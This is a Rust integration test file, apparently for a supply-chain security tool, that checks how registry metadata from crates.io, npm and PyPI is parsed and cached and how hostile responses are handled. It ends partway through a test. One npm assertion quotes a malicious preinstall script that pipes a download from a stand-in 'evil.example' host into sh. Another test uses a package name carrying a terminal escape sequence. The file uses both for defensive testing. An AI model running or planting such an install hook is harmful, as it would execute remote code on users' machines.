//! The registry metadata layer against an HTTP server on 127.0.0.1 started by each test,
//! serving the fixtures in `testdata/registry/` (shaped like crates.io's, npm's and PyPI's
//! responses): the three parsers, the cache (fresh, revalidated, offline), timeouts, the crates.io
//! API rate limit, bounded concurrency, and hostile responses (huge, HTML, redirect loops,
//! refused connections). No other network.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic)]

#[path = "support/http_server.rs"]
mod http_server;

use std::collections::hash_map::DefaultHasher;
use std::hash::{Hash, Hasher};
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use chainward::model::Ecosystem;
use chainward::registry::{
    Fetched, PackageMeta, Progress, ProgressReading, RegistryConfig, Wanted, fetch, fetch_watched,
};
use http_server::{Reply, Request, Server, refusing_url};
use time::OffsetDateTime;
use time::macros::datetime;

const NOW: OffsetDateTime = datetime!(2026-01-01 00:00:00 UTC);

fn fixture(rel: &str) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/registry").join(rel);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn etag(body: &[u8]) -> String {
    let mut h = DefaultHasher::new();
    body.hash(&mut h);
    format!("\"{:016x}\"", h.finish())
}

/// A fixture as a registry serves it: JSON with an `ETag`, 304 when revalidated with it.
fn serve_fixture(req: &Request, rel: &str) -> Reply {
    let body = fixture(rel);
    let tag = etag(&body);
    if req.header("if-none-match") == Some(tag.as_str()) {
        return Reply::status(304).with_header("ETag", &tag);
    }
    Reply::json(body).with_header("ETag", &tag)
}

/// The three registries under one server: `/index/` (any crate gets the demo index file),
/// `/api/v1/crates/<any>/{versions,owners}`, `/npm/`, `/pypi/`.
fn registries(req: &Request) -> Reply {
    let path = req.path.as_str();
    if path.starts_with("/index/") {
        // Any crate: the demo's versions, under the name asked for.
        let name = path.rsplit('/').next().unwrap();
        let body = String::from_utf8(fixture("crates.io/index/ch/ai/chainward-demo")).unwrap();
        let body = body.replace("\"name\":\"chainward-demo\"", &format!("\"name\":\"{name}\""));
        return Reply::json(body);
    }
    if let Some(rest) = path.strip_prefix("/api/v1/crates/") {
        if rest.ends_with("/versions") {
            return serve_fixture(req, "crates.io/api/chainward-demo/versions.json");
        }
        if rest.ends_with("/owners") {
            return serve_fixture(req, "crates.io/api/chainward-demo/owners.json");
        }
    }
    match path {
        "/npm/@demo%2Fwidget" => serve_fixture(req, "npm/@demo/widget.json"),
        "/pypi/pypi/sampleproject/json" => serve_fixture(req, "pypi/sampleproject.json"),
        "/pypi/pypi/urllib3/json" => serve_fixture(req, "pypi/urllib3.json"),
        "/pypi/integrity/sampleproject/4.0.0/sampleproject-4.0.0.tar.gz/provenance" => {
            serve_fixture(req, "pypi/integrity/sampleproject-4.0.0.tar.gz.provenance.json")
        }
        _ => Reply::status(404),
    }
}

/// Two lookups at once that share a cache stand for two chainward processes (a monorepo
/// scanned in parallel): crates.io's one request a second holds for both together.
#[test]
fn two_lookups_sharing_a_cache_keep_to_one_api_request_per_interval_together() {
    let server = Server::start(registries);
    let cache = tempfile::tempdir().unwrap();
    let mut config = config(&server.url, cache.path());
    let interval = Duration::from_millis(200);
    config.crates_io_api_interval = interval;
    std::thread::scope(|s| {
        for names in [["aaaa", "bbbb"], ["cccc", "dddd"]] {
            let config = &config;
            s.spawn(move || {
                let want: Vec<Wanted> = names.iter().map(|n| wanted(Ecosystem::Cargo, n, &["0.3.1"])).collect();
                let fetched = fetch(config, &want, &all);
                assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
            });
        }
    });
    let mut api = server.requests_to("/api/");
    api.sort_by_key(|r| r.at);
    assert_eq!(api.len(), 8);
    for pair in api.windows(2) {
        let gap = pair[1].at.duration_since(pair[0].at);
        // Arrival times jitter on a loaded machine; unpaced requests would arrive ~0 ms apart.
        assert!(gap + interval / 2 >= interval, "API requests {gap:?} apart");
    }
}

fn config(url: &str, cache: &Path) -> RegistryConfig {
    let mut config = RegistryConfig::public(Some(cache.to_path_buf()), NOW);
    config.crates_io_index = format!("{url}/index/");
    config.crates_io_api = format!("{url}/api/v1");
    config.npm = format!("{url}/npm");
    config.pypi = format!("{url}/pypi");
    config.timeout = Duration::from_secs(5);
    config.crates_io_api_interval = Duration::from_millis(10);
    config
}

fn wanted(ecosystem: Ecosystem, name: &str, versions: &[&str]) -> Wanted {
    Wanted { ecosystem, name: name.to_owned(), versions: versions.iter().map(|v| (*v).to_owned()).collect() }
}

fn all(_: &PackageMeta, _: &str) -> bool {
    true
}

fn none(_: &PackageMeta, _: &str) -> bool {
    false
}

fn package<'a>(fetched: &'a Fetched, ecosystem: Ecosystem, name: &str) -> &'a PackageMeta {
    fetched
        .packages
        .get(&(ecosystem, name.to_owned()))
        .unwrap_or_else(|| panic!("{name} missing: {:?} / {:?}", fetched.failures, fetched.not_found))
}

#[test]
fn crates_io_index_and_api_fill_publishers_provenance_repositories_and_owners() {
    let server = Server::start(registries);
    let cache = tempfile::tempdir().unwrap();
    let fetched =
        fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &all);
    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
    let meta = package(&fetched, Ecosystem::Cargo, "chainward-demo");
    assert!(meta.detailed);
    assert_eq!(meta.name, "chainward-demo");
    let order: Vec<&str> = meta.versions.iter().map(|v| v.version.as_str()).collect();
    assert_eq!(order, ["0.1.0", "0.2.0", "0.2.1", "0.3.0", "0.3.1"]);

    let v010 = meta.version("0.1.0").unwrap();
    // No `pubtime` in the index: the API's `created_at`; no `published_by`: no publisher.
    assert_eq!(v010.published_at, Some(datetime!(2016-05-04 17:53:39.094466 UTC)));
    assert_eq!(v010.publisher, None);
    assert_eq!(v010.provenance, Some(None));
    assert_eq!(v010.repository, None);

    let v020 = meta.version("0.2.0").unwrap();
    assert_eq!(v020.published_at, Some(datetime!(2024-03-01 12:00:00 UTC)));
    let alice = v020.publisher.as_ref().unwrap();
    assert_eq!((alice.id.as_str(), alice.display.as_str(), alice.trusted), ("github:alice", "@alice", false));
    assert_eq!(v020.yanked, Some(false));
    assert_eq!(v020.checksums, ["sha256:911fc0c48cb0c70601db5775a9bef1b740dc4cc9f9b46389b9f0563fe7eb94d7"]);
    assert_eq!(v020.repository.as_deref(), Some("https://github.com/chainward/demo"));

    assert_eq!(meta.version("0.2.1").unwrap().yanked, Some(true));

    let v030 = meta.version("0.3.0").unwrap();
    let trusted = v030.publisher.as_ref().unwrap();
    assert_eq!(trusted.id, "trustpub:github:chainward/demo");
    assert!(trusted.trusted);
    let provenance = v030.provenance.clone().unwrap().unwrap();
    assert_eq!(provenance.repository.as_deref(), Some("https://github.com/chainward/demo"));

    let v031 = meta.version("0.3.1").unwrap();
    assert_eq!(v031.publisher.as_ref().unwrap().id, "github:mallory");
    assert_eq!(v031.provenance, Some(None));
    assert_eq!(v031.repository.as_deref(), Some("https://github.com/mallory/demo-fork"));
    assert!(v031.install_scripts.is_empty());
    assert_eq!(v031.maintainers, None);
    assert_eq!(meta.earlier("0.3.1").len(), 4);

    let owners: Vec<&str> = meta.owners.as_ref().unwrap().iter().map(|o| o.id.as_str()).collect();
    assert_eq!(owners, ["github:alice", "team:github:chainward:release"]);
    // First look: nothing to compare with yet.
    assert!(meta.owner_changes.is_empty());

    let paths: Vec<String> = server.requests().into_iter().map(|r| r.path).collect();
    assert!(paths.contains(&"/index/ch/ai/chainward-demo".to_owned()), "{paths:?}");
    assert!(paths.contains(&"/api/v1/crates/chainward-demo/versions".to_owned()));
    assert!(paths.contains(&"/api/v1/crates/chainward-demo/owners".to_owned()));
    for r in server.requests() {
        assert!(r.header("user-agent").unwrap().starts_with("chainward/"), "{:?}", r.header("user-agent"));
    }
    assert_eq!(fetched.requests, 3);
}

#[test]
fn crates_io_owner_changes_are_seen_between_runs() {
    let cache = tempfile::tempdir().unwrap();
    let first = Server::start(registries);
    fetch(&config(&first.url, cache.path()), &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &all);
    let second = Server::start(|req: &Request| {
        if req.path.ends_with("/owners") {
            return Reply::json(
                r#"{"users":[{"id":6666,"login":"mallory","kind":"user","url":"https://github.com/mallory","name":null,"avatar":null}]}"#,
            );
        }
        registries(req)
    });
    let mut later = config(&second.url, cache.path());
    later.now = NOW + Duration::from_secs(30 * 86400);
    let fetched = fetch(&later, &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &all);
    let meta = package(&fetched, Ecosystem::Cargo, "chainward-demo");
    let changes: Vec<(String, bool)> = meta.owner_changes.iter().map(|c| (c.owner.clone(), c.added)).collect();
    assert!(changes.contains(&("github:mallory".to_owned(), true)), "{changes:?}");
    assert!(changes.contains(&("github:alice".to_owned(), false)));
    assert!(changes.contains(&("team:github:chainward:release".to_owned(), false)));
    assert!(meta.owner_changes.iter().all(|c| c.at == later.now && c.evidence == "crates.io owners snapshot"));
    // Between the previous snapshot and this one.
    assert!(meta.owner_changes.iter().all(|c| c.since == Some(NOW)), "{:?}", meta.owner_changes);
}

/// The counters a progress line reads: every package listed, and the details wanted done. A
/// version the registry does not list wants no details; another ecosystem is not looked up.
#[test]
fn progress_counts_listings_and_details() {
    let server = Server::start(registries);
    let cache = tempfile::tempdir().unwrap();
    let wanted = [
        wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"]),
        wanted(Ecosystem::Cargo, "other", &["9.9.9"]),
        wanted(Ecosystem::Go, "example.com/ignored", &["v1.0.0"]),
    ];
    let progress = Progress::default();
    let fetched = fetch_watched(&config(&server.url, cache.path()), &wanted, &all, &progress);
    assert_eq!(fetched.packages.len(), 2);
    assert_eq!(progress.read(), ProgressReading { packages: 2, listed: 2, to_detail: 1, detailed: 1 });
}

#[test]
fn crates_io_index_alone_when_details_are_not_wanted() {
    let server = Server::start(registries);
    let cache = tempfile::tempdir().unwrap();
    let fetched =
        fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &none);
    let meta = package(&fetched, Ecosystem::Cargo, "chainward-demo");
    assert!(!meta.detailed);
    let v = meta.version("0.1.0").unwrap();
    assert_eq!((v.published_at, v.publisher.clone(), v.provenance.clone()), (None, None, None));
    assert_eq!(meta.version("0.2.1").unwrap().yanked, Some(true));
    assert_eq!(meta.owners, None);
    assert_eq!(fetched.requests, 1);
    assert!(server.requests_to("/api/").is_empty());
}

#[test]
fn npm_packument_gives_publishers_scripts_provenance_and_maintainer_changes() {
    let server = Server::start(registries);
    let cache = tempfile::tempdir().unwrap();
    let fetched =
        fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Npm, "@demo/widget", &["2.0.1"])], &none);
    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
    let meta = package(&fetched, Ecosystem::Npm, "@demo/widget");
    assert!(meta.detailed);
    assert_eq!(meta.name, "@demo/widget");
    let order: Vec<&str> = meta.versions.iter().map(|v| v.version.as_str()).collect();
    assert_eq!(order, ["1.0.0", "1.1.0", "1.2.0", "2.0.0", "2.0.1"]);
    assert_eq!(server.requests()[0].path, "/npm/@demo%2Fwidget");
    assert_eq!(server.requests()[0].header("accept"), Some("application/json"));

    let v100 = meta.version("1.0.0").unwrap();
    assert_eq!(v100.published_at, Some(datetime!(2023-01-10 09:00:00.123 UTC)));
    assert_eq!(v100.publisher.as_ref().unwrap().id, "npm:alice");
    assert!(!v100.publisher.as_ref().unwrap().trusted);
    assert_eq!(v100.yanked, Some(false));
    assert_eq!(v100.provenance, Some(None));
    assert_eq!(v100.repository.as_deref(), Some("https://github.com/demo/widget"));
    assert!(v100.install_scripts.is_empty(), "test/build scripts are not install scripts");
    assert_eq!(v100.checksums.len(), 2);
    assert!(v100.checksums[0].starts_with("sha512:"));
    assert!(v100.checksums[1].starts_with("sha1:"));
    assert_eq!(v100.maintainers.as_deref(), Some(&["npm:alice".to_owned()][..]));

    // In `time` but no longer in `versions`: unpublished, recognisable as such.
    let gone = meta.version("1.2.0").unwrap();
    assert_eq!(gone.yanked, Some(true));
    assert_eq!(gone.published_at, Some(datetime!(2023-07-01 08:00:00 UTC)));
    assert_eq!((gone.maintainers.as_ref(), gone.publisher.as_ref(), gone.provenance.as_ref()), (None, None, None));

    let v200 = meta.version("2.0.0").unwrap();
    let trusted = v200.publisher.as_ref().unwrap();
    assert!(trusted.trusted);
    // Named by the trusted-publisher configuration the registry records, not by the account.
    assert_eq!(trusted.id, "npm-trusted:github:oidc:3c578f99-2a7b-4d1e-9e0f-5b1c2d3e4f50");
    assert_eq!(trusted.display, "trusted publisher (github, config oidc:3c578f99-2a7b-4d1e-9e0f-5b1c2d3e4f50)");
    // Attested; the packument does not say from which repository (the manifest's own
    // `repository` is the publisher's word, kept apart in `repository`).
    let provenance = v200.provenance.clone().unwrap().unwrap();
    assert_eq!((provenance.repository, provenance.workflow), (None, None));
    assert_eq!(v200.repository.as_deref(), Some("https://github.com/demo/widget"));
    assert_eq!(v200.install_scripts.get("postinstall").map(String::as_str), Some("node install.js"));

    let v201 = meta.version("2.0.1").unwrap();
    assert_eq!(v201.publisher.as_ref().unwrap().id, "npm:mallory");
    assert_eq!(v201.provenance, Some(None));
    assert_eq!(
        v201.install_scripts.get("preinstall").map(String::as_str),
        Some("curl -s https://evil.example/x.sh | sh")
    );
    assert_eq!(v201.repository.as_deref(), Some("https://github.com/m4ll0ry/widget"));

    let owners: Vec<&str> = meta.owners.as_ref().unwrap().iter().map(|o| o.id.as_str()).collect();
    assert_eq!(owners, ["npm:bob", "npm:mallory"]);
    let changes: Vec<(String, &str, bool, OffsetDateTime)> =
        meta.owner_changes.iter().map(|c| (c.owner.clone(), c.evidence.as_str(), c.added, c.at)).collect();
    assert_eq!(
        changes,
        [
            ("npm:bob".to_owned(), "npm maintainers of 1.1.0", true, datetime!(2023-06-01 14:22:05.456 UTC)),
            ("npm:alice".to_owned(), "npm maintainers of 2.0.0", false, datetime!(2025-09-01 16:03:41.470 UTC)),
            ("npm:mallory".to_owned(), "npm maintainers of 2.0.1", true, datetime!(2025-10-01 02:11:09.999 UTC)),
        ]
    );
}

#[test]
fn pypi_releases_owners_yanked_and_provenance_of_the_versions_in_use() {
    let server = Server::start(registries);
    let cache = tempfile::tempdir().unwrap();
    let fetched = fetch(
        &config(&server.url, cache.path()),
        &[wanted(Ecosystem::PyPI, "SampleProject", &["4.0.0"]), wanted(Ecosystem::PyPI, "urllib3", &["2.0.1"])],
        &|meta: &PackageMeta, _: &str| meta.name == "sampleproject",
    );
    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
    let meta = package(&fetched, Ecosystem::PyPI, "sampleproject");
    assert!(meta.detailed);
    let order: Vec<&str> = meta.versions.iter().map(|v| v.version.as_str()).collect();
    // 1.0 has no files (no upload time): first.
    assert_eq!(order, ["1.0", "1.2.0", "1.3.0", "1.3.1", "2.0.0", "3.0.0", "4.0.0"]);
    let v400 = meta.version("4.0.0").unwrap();
    // The earliest upload among the release's files (the wheel).
    assert_eq!(v400.published_at, Some(datetime!(2024-11-06 22:37:09.220617 UTC)));
    assert_eq!(v400.yanked, Some(false));
    assert_eq!(
        v400.checksums,
        [
            "sha256:0ace7980f82c5815ede4cd7bf9f6693684cec2ae47b9b7ade9add533b8627c6b",
            "sha256:c23e447ea90d796d1e645c35c4b2de125040add12a845825546f91c93f391b6b"
        ]
    );
    assert_eq!(v400.repository.as_deref(), Some("https://github.com/pypa/sampleproject"));
    let publisher = v400.publisher.as_ref().unwrap();
    assert_eq!(publisher.id, "trustpub:github:pypa/sampleproject");
    assert!(publisher.trusted);
    let provenance = v400.provenance.clone().unwrap().unwrap();
    assert_eq!(provenance.repository.as_deref(), Some("https://github.com/pypa/sampleproject"));
    assert_eq!(provenance.workflow.as_deref(), Some(".github/workflows/release.yml"));
    // The release before: asked, none (404).
    let v300 = meta.version("3.0.0").unwrap();
    assert_eq!(v300.provenance, Some(None));
    assert_eq!(v300.publisher, None);
    // Not asked.
    assert_eq!(meta.version("2.0.0").unwrap().provenance, None);
    assert_eq!(meta.version("1.0").unwrap().yanked, None);
    let provenance_requests = server.requests_to("/pypi/integrity/");
    assert_eq!(provenance_requests.len(), 2);
    assert!(provenance_requests.iter().all(|r| r.header("accept") == Some("application/vnd.pypi.integrity.v1+json")));
    assert!(provenance_requests.iter().any(|r| r.path.ends_with("/3.0.0/sampleproject-3.0.0.tar.gz/provenance")));
    let owners: Vec<(&str, Option<&str>)> =
        meta.owners.as_ref().unwrap().iter().map(|o| (o.id.as_str(), o.role.as_deref())).collect();
    assert_eq!(owners, [("pypi-org:pypa", Some("Organization"))]);

    let urllib3 = package(&fetched, Ecosystem::PyPI, "urllib3");
    assert!(!urllib3.detailed);
    assert_eq!(urllib3.version("2.0.1").unwrap().yanked, Some(true));
    assert_eq!(urllib3.version("2.0.2").unwrap().yanked, Some(false));
    assert_eq!(urllib3.version("2.0.1").unwrap().provenance, None);
    let owners: Vec<(&str, Option<&str>)> =
        urllib3.owners.as_ref().unwrap().iter().map(|o| (o.id.as_str(), o.role.as_deref())).collect();
    assert_eq!(
        owners,
        [("pypi:SethMichaelLarson", Some("Owner")), ("pypi:illia-v", Some("Owner")), ("pypi:shazow", Some("Owner"))]
    );
}

#[test]
fn a_second_fetch_within_the_ttl_sends_no_request() {
    let server = Server::start(registries);
    let cache = tempfile::tempdir().unwrap();
    let config = config(&server.url, cache.path());
    let want =
        [wanted(Ecosystem::Npm, "@demo/widget", &["2.0.1"]), wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])];
    let first = fetch(&config, &want, &all);
    assert_eq!((first.requests, first.cache_hits), (4, 0));
    let second = fetch(&config, &want, &all);
    assert_eq!((second.requests, second.cache_hits), (0, 4));
    assert_eq!(server.requests().len(), 4);
    assert_eq!(first.packages, second.packages);
    assert!(cache.path().join("npm").is_dir() && cache.path().join("crates.io-index").is_dir());
}

#[test]
fn a_stale_entry_is_revalidated_with_if_none_match_and_the_304_is_used() {
    let server = Server::start(registries);
    let cache = tempfile::tempdir().unwrap();
    let mut config = config(&server.url, cache.path());
    let want = [wanted(Ecosystem::Npm, "@demo/widget", &["2.0.1"])];
    let first = fetch(&config, &want, &none);
    config.now = NOW + config.ttl + Duration::from_secs(60);
    let second = fetch(&config, &want, &none);
    assert_eq!((second.requests, second.cache_hits), (1, 1));
    let requests = server.requests();
    assert_eq!(requests.len(), 2);
    assert_eq!(requests[0].header("if-none-match"), None);
    let tag = etag(&fixture("npm/@demo/widget.json"));
    assert_eq!(requests[1].header("if-none-match"), Some(tag.as_str()));
    assert_eq!(first.packages, second.packages);
    // The 304 refreshed the entry: a minute later it is fresh again.
    config.now += Duration::from_secs(60);
    let third = fetch(&config, &want, &none);
    assert_eq!((third.requests, third.cache_hits), (0, 1));
}

#[test]
fn offline_uses_only_the_cache_whatever_its_age_and_reports_a_miss() {
    let server = Server::start(registries);
    let cache = tempfile::tempdir().unwrap();
    let mut config = config(&server.url, cache.path());
    fetch(&config, &[wanted(Ecosystem::Npm, "@demo/widget", &["2.0.1"])], &none);
    let before = server.requests().len();
    config.offline = true;
    config.now = NOW + Duration::from_secs(365 * 86400);
    let fetched = fetch(
        &config,
        &[wanted(Ecosystem::Npm, "@demo/widget", &["2.0.1"]), wanted(Ecosystem::Npm, "left-pad", &["1.3.0"])],
        &none,
    );
    assert_eq!(server.requests().len(), before, "offline touched the network");
    assert_eq!(fetched.requests, 0);
    assert_eq!(fetched.cache_hits, 1);
    package(&fetched, Ecosystem::Npm, "@demo/widget");
    assert_eq!(fetched.failures.len(), 1);
    assert_eq!(fetched.failures[0].registry, "npm");
    assert_eq!(fetched.failures[0].packages, ["left-pad"]);
    assert!(fetched.failures[0].message.contains("not in the cache (offline)"), "{}", fetched.failures[0].message);
}

/// Fetch the npm packages `failing` next to urllib3 from PyPI: within four seconds, urllib3
/// still arrives and the npm packages make exactly one failure, which is returned.
fn only_npm_fails(config: &RegistryConfig, failing: &[&str]) -> (Fetched, chainward::registry::Failure) {
    let mut want: Vec<Wanted> = failing.iter().map(|n| wanted(Ecosystem::Npm, n, &["1.0.0"])).collect();
    want.push(wanted(Ecosystem::PyPI, "urllib3", &["2.8.0"]));
    let t0 = Instant::now();
    let fetched = fetch(config, &want, &none);
    assert!(t0.elapsed() < Duration::from_secs(4), "took {:?}", t0.elapsed());
    package(&fetched, Ecosystem::PyPI, "urllib3");
    assert_eq!(fetched.failures.len(), 1, "{:?}", fetched.failures);
    let failure = fetched.failures[0].clone();
    (fetched, failure)
}

#[test]
fn a_registry_that_never_answers_or_trickles_times_out_and_the_others_still_answer() {
    let hanging = Server::start(|req: &Request| if req.path == "/npm/trickle" { Reply::Trickle } else { Reply::Hang });
    let server = Server::start(registries);
    let cache = tempfile::tempdir().unwrap();
    let mut config = config(&server.url, cache.path());
    config.npm = format!("{}/npm", hanging.url);
    config.timeout = Duration::from_millis(500);
    let (_, failure) = only_npm_fails(&config, &["@demo/widget", "trickle"]);
    assert_eq!(failure.registry, "npm");
    assert_eq!(failure.packages, ["@demo/widget", "trickle"]);
    assert!(failure.message.contains("timed out"), "{}", failure.message);
}

#[test]
fn crates_io_api_requests_are_spaced_by_the_interval_and_index_requests_are_not() {
    let server = Server::start(registries);
    let cache = tempfile::tempdir().unwrap();
    let mut config = config(&server.url, cache.path());
    let interval = Duration::from_millis(300);
    config.crates_io_api_interval = interval;
    config.concurrency = 4;
    let want: Vec<Wanted> = ["aaaa", "bbbb", "cccc"].iter().map(|n| wanted(Ecosystem::Cargo, n, &["0.3.1"])).collect();
    let t0 = Instant::now();
    let fetched = fetch(&config, &want, &all);
    let elapsed = t0.elapsed();
    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
    let api = server.requests_to("/api/");
    assert_eq!(api.len(), 6);
    // Six starts, each at least an interval after the one before.
    assert!(elapsed >= interval * 5, "{elapsed:?}");
    for pair in api.windows(2) {
        let gap = pair[1].at.duration_since(pair[0].at);
        assert!(gap + Duration::from_millis(30) >= interval, "API requests {gap:?} apart");
    }
    // Throttled, three index requests would span two intervals.
    let index = server.requests_to("/index/");
    assert_eq!(index.len(), 3);
    let spread = index.last().unwrap().at.duration_since(index[0].at);
    assert!(spread < interval * 2, "index requests throttled: {spread:?}");

    // Cache hits are not throttled (six of them would take five intervals).
    let t0 = Instant::now();
    let again = fetch(&config, &want, &all);
    assert_eq!(again.requests, 0);
    assert!(t0.elapsed() < interval * 4, "{:?}", t0.elapsed());
}

#[test]
fn a_body_larger_than_max_body_is_a_bounded_error() {
    let server = Server::start(|req: &Request| match req.path.as_str() {
        "/npm/streamed" => Reply::Stream { bytes: 1 << 30 },
        "/npm/declared" => Reply::json(Vec::new()).with_header("Content-Length", "10737418240"),
        _ => registries(req),
    });
    let cache = tempfile::tempdir().unwrap();
    let mut config = config(&server.url, cache.path());
    config.max_body = 64 << 10;
    let (_, failure) = only_npm_fails(&config, &["streamed", "declared"]);
    assert_eq!(failure.packages, ["declared", "streamed"]);
    assert!(failure.message.contains("larger than 65536 bytes"), "{}", failure.message);
    // Nothing of it was cached.
    let again = fetch(&config, &[wanted(Ecosystem::Npm, "streamed", &["1.0.0"])], &none);
    assert_eq!(again.requests, 1);
}

#[test]
fn html_instead_of_json_and_server_errors_are_reported_per_kind() {
    let server = Server::start(|req: &Request| match req.path.as_str() {
        "/pypi/pypi/portal/json" => Reply::Full {
            status: 200,
            headers: vec![("Content-Type".into(), "text/html; charset=utf-8".into())],
            body: b"<!DOCTYPE html><html><body>Sign in to the Wi-Fi</body></html>".to_vec(),
        },
        "/pypi/pypi/broken/json" => Reply::Full {
            status: 503,
            headers: vec![("Content-Type".into(), "text/html".into())],
            body: b"<html>upstream error</html>".to_vec(),
        },
        "/pypi/pypi/wrong-shape/json" => Reply::json(r#"{"releases": {}}"#),
        _ => registries(req),
    });
    let cache = tempfile::tempdir().unwrap();
    let fetched = fetch(
        &config(&server.url, cache.path()),
        &[
            wanted(Ecosystem::PyPI, "portal", &["1"]),
            wanted(Ecosystem::PyPI, "broken", &["1"]),
            wanted(Ecosystem::PyPI, "wrong_shape", &["1"]),
            wanted(Ecosystem::PyPI, "urllib3", &["2.8.0"]),
            wanted(Ecosystem::Npm, "evil\u{1b}[2Jname", &["1"]),
        ],
        &none,
    );
    package(&fetched, Ecosystem::PyPI, "urllib3");
    assert_eq!(fetched.not_found, [(Ecosystem::Npm, "evil\u{1b}[2Jname".to_owned())]);
    let messages: Vec<String> =
        fetched.failures.iter().map(|f| format!("{} {:?}: {}", f.registry, f.packages, f.message)).collect();
    assert_eq!(messages.len(), 3, "{messages:?}");
    assert!(
        messages.iter().any(|m| m.contains("[\"portal\"]") && m.contains("expected JSON, got HTML")),
        "{messages:?}"
    );
    assert!(messages.iter().any(|m| m.contains("[\"broken\"]") && m.contains("HTTP 503")), "{messages:?}");
    assert!(
        messages.iter().any(|m| m.contains("[\"wrong_shape\"]") && m.contains("missing field `info`")),
        "{messages:?}"
    );
    assert!(fetched.failures.iter().all(|f| f.message.chars().all(|c| !c.is_control())));
}

#[test]
fn a_redirect_loop_is_a_bounded_error() {
    let server = Server::start(|req: &Request| match req.path.as_str() {
        "/npm/loop" => Reply::status(302).with_header("Location", "/npm/loop"),
        _ => registries(req),
    });
    let cache = tempfile::tempdir().unwrap();
    let fetched = fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Npm, "loop", &["1"])], &none);
    assert_eq!(fetched.failures.len(), 1);
    assert!(fetched.failures[0].message.contains("redirects"), "{}", fetched.failures[0].message);
    assert!(server.requests_to("/npm/loop").len() <= 6);
}

#[test]
fn a_refusing_registry_is_reported_once_with_all_its_packages() {
    let server = Server::start(registries);
    let cache = tempfile::tempdir().unwrap();
    let mut config = config(&server.url, cache.path());
    config.npm = refusing_url();
    config.concurrency = 2;
    let mut want: Vec<Wanted> = (0..6).map(|i| wanted(Ecosystem::Npm, &format!("pkg{i}"), &["1.0.0"])).collect();
    want.push(wanted(Ecosystem::PyPI, "urllib3", &["2.8.0"]));
    want.push(wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"]));
    let fetched = fetch(&config, &want, &none);
    package(&fetched, Ecosystem::PyPI, "urllib3");
    package(&fetched, Ecosystem::Cargo, "chainward-demo");
    assert_eq!(fetched.failures.len(), 1, "{:?}", fetched.failures);
    let failure = &fetched.failures[0];
    assert_eq!(failure.registry, "npm");
    assert_eq!(failure.packages, (0..6).map(|i| format!("pkg{i}")).collect::<Vec<_>>());
    assert!(failure.message.contains("stopped asking npm after 3 failed requests in a row"), "{}", failure.message);
    // At most the breaker's threshold (plus what was already in flight) reached the network.
    assert!(fetched.requests <= 2 + 3 + 1, "{}", fetched.requests);
}

#[test]
fn requests_in_flight_never_exceed_concurrency() {
    let server = Server::start(|req: &Request| {
        let reply =
            if req.path.starts_with("/npm/") { serve_fixture(req, "npm/@demo/widget.json") } else { registries(req) };
        Reply::Delayed(Duration::from_millis(100), Box::new(reply))
    });
    let cache = tempfile::tempdir().unwrap();
    let mut config = config(&server.url, cache.path());
    config.concurrency = 3;
    let want: Vec<Wanted> = (0..12).map(|i| wanted(Ecosystem::Npm, &format!("pkg{i}"), &["1.0.0"])).collect();
    let fetched = fetch(&config, &want, &none);
    assert_eq!(fetched.packages.len(), 12);
    assert_eq!(server.requests().len(), 12);
    assert!(server.max_in_flight() <= 3, "{} in flight", server.max_in_flight());
    assert!(server.max_in_flight() >= 2, "no concurrency at all");
}

#[test]
fn not_found_is_an_answer_and_is_cached() {
    let server = Server::start(registries);
    let cache = tempfile::tempdir().unwrap();
    let config = config(&server.url, cache.path());
    let want =
        [wanted(Ecosystem::Cargo, "no-such-crate", &["1.0.0"]), wanted(Ecosystem::PyPI, "No_Such.Project", &["1"])];
    let server404 = Server::start(|_: &Request| Reply::status(404));
    let mut config404 = config.clone();
    config404.crates_io_index = format!("{}/index/", server404.url);
    let fetched = fetch(&config404, &want, &all);
    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
    assert_eq!(
        fetched.not_found,
        [(Ecosystem::Cargo, "no-such-crate".to_owned()), (Ecosystem::PyPI, "no-such-project".to_owned())]
    );
    // Packages in use that their registry does not have: every version in use is missing.
    assert_eq!(
        fetched.missing,
        [
            (Ecosystem::Cargo, "no-such-crate".to_owned(), "1.0.0".to_owned()),
            (Ecosystem::PyPI, "no-such-project".to_owned(), "1".to_owned())
        ]
    );
    assert!(server.requests_to("/pypi/pypi/no-such-project/json").len() == 1);
    // Offline, the cached 404s answer.
    let mut offline = config404.clone();
    offline.offline = true;
    let again = fetch(&offline, &want, &all);
    assert_eq!((again.requests, again.cache_hits), (0, 2));
    assert_eq!(again.not_found, fetched.not_found);
    assert!(again.missing.is_empty(), "an offline copy does not confirm anything: {:?}", again.missing);
    // Online within the TTL, a cached 404 for a package in use is asked again (it may have been
    // published since: a name squatted between two runs).
    let again = fetch(&config404, &want, &all);
    assert_eq!((again.requests, again.cache_hits), (2, 0));
    assert_eq!(again.not_found, fetched.not_found);
    assert_eq!(again.missing, fetched.missing);
}

#[test]
fn ecosystems_without_a_client_are_ignored() {
    let server = Server::start(registries);
    let cache = tempfile::tempdir().unwrap();
    let fetched =
        fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Go, "golang.org/x/text", &["v0.3.0"])], &all);
    assert!(fetched.packages.is_empty() && fetched.failures.is_empty() && fetched.not_found.is_empty());
    assert!(server.requests().is_empty());
}

#[test]
fn a_stale_entry_is_used_with_a_note_when_the_registry_fails() {
    let down = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let flag = std::sync::Arc::clone(&down);
